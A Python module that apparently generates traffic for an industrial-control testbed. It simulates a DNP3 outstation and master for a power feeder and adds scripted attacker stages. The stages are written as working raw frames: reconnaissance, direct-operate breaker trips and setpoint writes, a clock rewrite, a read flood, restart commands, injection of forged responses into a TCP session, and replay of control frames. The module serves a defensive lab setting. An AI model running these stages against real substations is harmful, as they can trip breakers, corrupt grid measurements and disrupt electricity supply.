"""DNP3 over TCP on dnp3py (pure-Python IEEE 1815-2012 master and outstation): an outstation whose
analog inputs follow a simulated feeder (events on a deadband), a master polling it, and the
attacker's stages written as raw frames (link header and block CRCs from dnp3py's CRC)."""

from __future__ import annotations

import asyncio
import logging
import random
import struct
import time

from common import (
    ATTACKER,
    DEVICES,
    MASTER,
    SCAN_PORTS,
    LoopTap,
    attacker_socket,
    echo_timestamps,
    log,
    port_scan,
    recv_some,
)

OUTSTATION, PORT = DEVICES["dnp3"]
OUT_ADDR, MASTER_ADDR = 10, 1
INTEGRITY_EVERY = 60.0  # seconds between integrity polls (class 0123)
EVENT_POLL_EVERY = 2.0  # seconds between class 1/2/3 event polls


def requirement() -> str | None:
    try:
        import dnp3.outstation  # noqa: F401
    except ImportError:
        return "dnp3py is not installed (pip install -e '.[realstack]')"
    return None


# --- outstation ------------------------------------------------------------------------------------


async def server(seed: int, command_every: float) -> None:
    from dnp3.database import AnalogInputConfig, BinaryInputConfig, Database
    from dnp3.database.point import AnalogOutputConfig, BinaryOutputConfig, CounterConfig, EventClass
    from dnp3.outstation import Outstation, OutstationConfig, OutstationTcpRunner
    from dnp3.outstation.handler import CommandResult, DefaultCommandHandler
    from dnp3.transport_io.tcp_server import serve

    rng = random.Random(seed)
    db = Database()
    for i in range(4):
        db.add_binary_input(i, BinaryInputConfig(event_class=EventClass.CLASS_1))
        db.add_binary_output(i, BinaryOutputConfig())
    for i, band in enumerate((20.0, 2.0, 0.05, 50.0)):  # bus voltage, current, frequency, power
        db.add_analog_input(i, AnalogInputConfig(event_class=EventClass.CLASS_2, deadband=band))
    db.add_analog_output(0, AnalogOutputConfig())
    db.add_counter(0, CounterConfig(event_class=EventClass.CLASS_3))
    db.update_binary_input(0, value=True)  # breaker closed

    class Handler(DefaultCommandHandler):
        """Accepts the operator's controls: breaker (CROB 0-3) and the voltage setpoint (AO 0)."""

        def select_binary_output(self, index, code, count, on_time, off_time):
            return CommandResult.success()

        def operate_binary_output(self, index, code, count, on_time, off_time, select_sequence):
            db.update_binary_input(index, value=int(code) in (1, 3))  # pulse on / latch on close it
            return CommandResult.success()

        def direct_operate_binary_output(self, index, code, count, on_time, off_time):
            return self.operate_binary_output(index, code, count, on_time, off_time, 0)

        def select_analog_output(self, index, value):
            return CommandResult.success()

        def operate_analog_output(self, index, value, select_sequence):
            state["setpoint"] = value
            return CommandResult.success()

        def direct_operate_analog_output(self, index, value):
            return self.operate_analog_output(index, value, 0)

        def cold_restart(self):
            return 5000

        def warm_restart(self):
            return 2000

    state = {"setpoint": 11000.0}
    outstation = Outstation(
        database=db, config=OutstationConfig(address=OUT_ADDR, master_address=MASTER_ADDR), handler=Handler()
    )

    class MultiSessionRunner(OutstationTcpRunner):
        """dnp3py's runner drops the old connection when a new one arrives; a substation RTU serves
        each master's session at once (so the attacker's sessions do not cut the SCADA master off)."""

        async def run(self) -> None:
            self._server = await serve(self.host, self.port)
            tasks = set()
            while not self._shutdown.is_set():
                try:
                    channel = await asyncio.wait_for(self._server.accept(), timeout=1.0)
                except TimeoutError:
                    continue
                t = asyncio.create_task(self._handle_connection(channel))
                tasks.add(t)
                t.add_done_callback(tasks.discard)

    async def process():
        volts, amps, hz, n = 11000.0, 240.0, 50.0, 0
        while True:
            volts += 0.2 * (state["setpoint"] - volts) + rng.gauss(0, 8)
            amps = max(0.0, amps + rng.gauss(0, 1.5))
            hz = 50.0 + 0.9 * (hz - 50.0) + rng.gauss(0, 0.01)
            for i, v in enumerate((volts, amps, hz * 100, volts * amps * 1.732 / 1000)):
                db.update_analog_input(i, value=int(v))
            n += int(amps)
            db.update_counter(0, value=n)
            await asyncio.sleep(1.0)

    task = asyncio.create_task(process())
    try:
        await MultiSessionRunner(outstation=outstation, host=OUTSTATION, port=PORT).run()
    finally:
        task.cancel()


# --- master ----------------------------------------------------------------------------------------


async def master(seed: int, command_every: float) -> None:
    """Integrity poll at start and every 60 s, class 1/2/3 event polls every 2 s, and now and then the
    operator's select/operate of the breaker or of the voltage setpoint."""
    from dnp3.master import DefaultSOEHandler, Master, MasterConfig, MasterTcpRunner
    from dnp3.master.commands import CommandBuilder

    rng = random.Random(seed + 1)
    lg = logging.getLogger("master")
    while True:  # reconnect loop, as a master does after a restart of the outstation
        m = Master(
            handler=DefaultSOEHandler(), config=MasterConfig(address=MASTER_ADDR, outstation_address=OUT_ADDR)
        )
        runner = MasterTcpRunner(master=m, host=OUTSTATION, port=PORT, response_timeout=5.0)
        try:
            await runner.open()
            await runner.integrity_poll()
            last_integrity = time.monotonic()
            next_cmd = time.time() + rng.uniform(0.3, 0.7) * command_every
            while True:
                await asyncio.sleep(EVENT_POLL_EVERY)
                if time.monotonic() - last_integrity >= INTEGRITY_EVERY:
                    await runner.integrity_poll()
                    last_integrity = time.monotonic()
                else:
                    await runner.class_poll()
                if time.time() >= next_cmd:
                    if rng.random() < 0.5:
                        b = (
                            CommandBuilder().pulse_on(1, on_time=500)
                            if rng.random() < 0.5
                            else CommandBuilder().latch_on(0)
                        )
                    else:
                        b = CommandBuilder().add_analog(0, rng.choice([10900, 10950, 11000, 11050, 11100]))
                    await runner.request(m.build_select(b.build_select()))
                    await runner.request(m.build_operate(b.build_operate()))
                    next_cmd = time.time() + rng.uniform(0.5, 1.5) * command_every
        except Exception as exc:
            lg.warning("session failed: %s; reconnecting", exc)
        finally:
            await runner.close()
        await asyncio.sleep(2.0)


# --- attacker: raw frames --------------------------------------------------------------------------


def _crc(data: bytes) -> bytes:
    from dnp3.core.crc import compute_crc

    return struct.pack("<H", compute_crc(data))


def link_frame(ctrl: int, dst: int, src: int, user: bytes = b"") -> bytes:
    head = bytes([0x05, 0x64, 5 + len(user), ctrl]) + struct.pack("<HH", dst, src)
    out = head + _crc(head)
    for i in range(0, len(user), 16):
        block = user[i : i + 16]
        out += block + _crc(block)
    return out


class Session:
    """The attacker's DNP3 session: transport and application sequence numbers of its own."""

    def __init__(self, src_addr: int = MASTER_ADDR, dst_addr: int = OUT_ADDR):
        self.sock = attacker_socket(OUTSTATION, PORT)
        self.src, self.dst, self.tseq, self.aseq = src_addr, dst_addr, 0, 0

    def request(self, fc: int, objects: bytes = b"", wait: float = 1.0, dst: int | None = None) -> bytes:
        app = bytes([0xC0 | self.aseq, fc]) + objects
        seg = bytes([0xC0 | self.tseq]) + app
        self.aseq, self.tseq = (self.aseq + 1) % 16, (self.tseq + 1) % 64
        self.sock.sendall(link_frame(0xC4, self.dst if dst is None else dst, self.src, seg))
        return recv_some(self.sock, wait) if wait else b""

    def link(self, fc: int, dst: int, wait: float = 0.3) -> bytes:
        self.sock.sendall(link_frame(0xC0 | fc, dst, self.src))
        return recv_some(self.sock, wait)

    def close(self):
        self.sock.close()


CLASS_0123 = bytes.fromhex("3c0206 3c0306 3c0406 3c0106".replace(" ", ""))
CLASS_123 = bytes.fromhex("3c0206 3c0306 3c0406".replace(" ", ""))


def crob(index: int, code: int, on_ms: int = 1000) -> bytes:
    return (
        bytes([12, 1, 0x28])
        + struct.pack("<HH", 1, index)
        + bytes([code, 1])
        + struct.pack("<II", on_ms, 0)
        + b"\0"
    )


def analog_out(index: int, value: int) -> bytes:
    return bytes([41, 2, 0x28]) + struct.pack("<HHhB", 1, index, value, 0)


def stage_recon(ctx) -> str:
    open_ports = port_scan(OUTSTATION)
    s = Session()
    found = [
        a for a in list(range(16)) + [OUT_ADDR] if s.link(9, a, 0.2)
    ]  # link-status sweep of addresses
    s.request(1, CLASS_0123, wait=1.5)  # integrity poll
    for g, v in (
        (1, 0),
        (10, 0),
        (20, 0),
        (30, 0),
        (40, 0),
        (50, 1),
        (60, 1),
    ):  # read every group, all points
        s.request(1, bytes([g, v, 0x06]), wait=0.5)
        time.sleep(0.05)
    s.request(1, CLASS_0123, wait=0.5, dst=0xFFFF)  # broadcast read
    s.close()
    return (
        f"TCP connect scan of {len(SCAN_PORTS)} ports (open: {open_ports}), link-status sweep of link addresses "
        f"0-15 (answered: {sorted(set(found))}), integrity poll, reads of every object group and a broadcast read on {OUTSTATION}"
    )


def stage_write(ctx) -> str:
    s = Session()
    s.request(5, crob(0, 0x04))  # direct operate: latch off breaker 0 (trip)
    time.sleep(0.5)
    s.request(5, analog_out(0, 14500))  # direct operate: voltage setpoint 14500
    time.sleep(0.5)
    s.request(
        2, bytes([50, 1, 0x07, 1]) + (int(time.time() * 1000) - 3600_000).to_bytes(6, "little")
    )  # time off by 1 h
    time.sleep(2)
    s.request(5, analog_out(0, 11000))
    s.close()
    return (
        f"new host direct-operates breaker 0 open (g12v1 latch off), the voltage setpoint to 14500 (g41v2), "
        f"writes the clock 1 h back (g50v1), then sets the setpoint back, on {OUTSTATION}"
    )


def stage_flood(ctx) -> str:
    s = Session()
    n, t_end = 0, time.time() + ctx.timing.flood
    while time.time() < t_end:
        n += 1
        if not s.request(1, CLASS_0123, wait=1.0):
            break
    s.close()
    return f"request flood: {n} integrity-poll READs in {ctx.timing.flood:.0f} s against {OUTSTATION}"


def stage_disrupt(ctx) -> str:
    s = Session()
    s.request(21, CLASS_123)  # disable unsolicited
    time.sleep(0.5)
    s.request(18)  # stop application
    time.sleep(0.5)
    s.request(13, wait=2.0)  # cold restart
    s.close()
    time.sleep(1)
    s = Session()
    s.request(14, wait=2.0)  # warm restart
    s.close()
    return f"new host disables unsolicited reporting (FC 21), stops the application (FC 18), cold-restarts (FC 13) and warm-restarts (FC 14) {OUTSTATION}"


def stage_spoof(ctx) -> str:
    """Inject forged responses (a frozen bus voltage, g32v1 event) into the master's session, spoofing
    the outstation: each is sent the moment the master's READ goes out, racing the real answer."""
    tap = LoopTap()
    sent, t_end = 0, time.time() + max(4.0, ctx.timing.flood)
    last_resp = None
    try:
        while time.time() < t_end and sent < 6:
            seg = tap.next(
                lambda g: (
                    g.payload
                    and (
                        (g.src == OUTSTATION and g.dst == MASTER and g.sport == PORT)
                        or (g.src == MASTER and g.dst == OUTSTATION and g.dport == PORT)
                    )
                ),
                4.0,
            )
            if seg is None:
                continue
            if seg.src == OUTSTATION:
                last_resp = seg
                continue
            p = seg.payload
            if last_resp is None or len(p) < 13 or p[12] != 0x01:  # the master's READ
                continue
            tseq = last_resp.payload[10] & 0x3F if len(last_resp.payload) > 10 else 0
            aseq = p[11] & 0x0F
            objs = bytes([32, 1, 0x28]) + struct.pack("<HHBi", 1, 0, 0x01, 11000)
            app = bytes([0xC0 | aseq, 0x81, 0x00, 0x00]) + objs
            frame = link_frame(0x44, MASTER_ADDR, OUT_ADDR, bytes([0xC0 | ((tseq + 1) % 64)]) + app)
            tap.inject(
                OUTSTATION,
                MASTER,
                PORT,
                seg.sport,
                last_resp.seq + len(last_resp.payload),
                seg.seq + len(p),
                frame,
                echo_timestamps(last_resp.options),
            )
            sent += 1
            last_resp = None
    finally:
        tap.close()
    return f"{sent} forged responses (g32v1 bus voltage 11000) injected into the master's session from {OUTSTATION}'s address"


def stage_replay(ctx) -> str:
    frames = [p for p in ctx.recorded if len(p) >= 13 and p[:2] == b"\x05\x64"]
    controls = [p for p in frames if p[12] in (3, 4, 5)]  # select, operate, direct operate
    pick = controls[-4:] + frames[-20:]
    s = attacker_socket(OUTSTATION, PORT)
    for p in pick:
        s.sendall(p)
        recv_some(s, 0.3)
        time.sleep(0.05)
    s.close()
    return f"replay from a new host of {len(pick)} recorded master frames ({len(controls[-4:])} select/operate) to {OUTSTATION}"


STAGES = [
    ("recon", stage_recon, ATTACKER, OUTSTATION),
    ("unauthorised_write", stage_write, ATTACKER, OUTSTATION),
    ("flood", stage_flood, ATTACKER, OUTSTATION),
    ("dangerous_function", stage_disrupt, ATTACKER, OUTSTATION),
    ("measurement_spoofing", stage_spoof, OUTSTATION, MASTER),
    ("replay", stage_replay, ATTACKER, OUTSTATION),
]


def _main(role: str, seed: int, command_every: float) -> None:
    log("dnp3", f"{role} starting")
    asyncio.run((server if role == "server" else master)(seed, command_every))
